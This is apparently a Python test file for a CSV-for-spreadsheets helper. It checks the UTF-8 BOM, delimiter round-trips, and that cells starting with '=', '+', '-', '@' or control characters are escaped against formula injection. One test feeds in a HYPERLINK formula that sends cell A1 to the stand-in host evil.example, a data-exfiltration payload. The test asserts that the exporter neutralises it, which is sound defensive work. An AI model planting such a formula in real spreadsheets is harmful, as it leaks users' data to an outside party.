"""CSV for spreadsheets without Django (civilsamhalle.interchange.spreadsheet): the BOM, the
delimiter, and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

from civilsamhalle.interchange.spreadsheet import DELIMITERS, csv_bytes, safe_cell


def test_cells_that_a_spreadsheet_would_run_get_an_apostrophe():
    for formula in ("=1+1", "+46 70", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(formula) == "'" + formula
    for text in ("Röda Korset", "1+1", "a=b", "", "'quoted", "e-post", " =1"):
        assert safe_cell(text) == text
    assert safe_cell(None) == ""
    assert safe_cell(-5) == "'-5"  # a number typed as one is text too: no cell is a formula


def test_a_hyperlink_formula_reaches_the_file_as_quoted_text():
    data = csv_bytes(["a"], [['=HYPERLINK("https://evil.example/?"&A1;"Klicka")']])
    assert data == b'\xef\xbb\xbfa\r\n"\'=HYPERLINK(""https://evil.example/?""&A1;""Klicka"")"\r\n'


def test_utf8_with_bom_and_either_delimiter_round_trips():
    rows = [["Bäve hembygdsförening", "Kultur | Tro", "rad ett\nrad två"], ["Ø;æ", "x,y", ""]]
    for name, delimiter in DELIMITERS.items():
        data = csv_bytes(["namn", "kategorier", "text"], rows, delimiter)
        assert data.startswith(b"\xef\xbb\xbf"), name
        text = data.decode("utf-8-sig")
        assert text.splitlines()[0] == delimiter.join(["namn", "kategorier", "text"])
        read = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
        assert read[1:] == rows, name
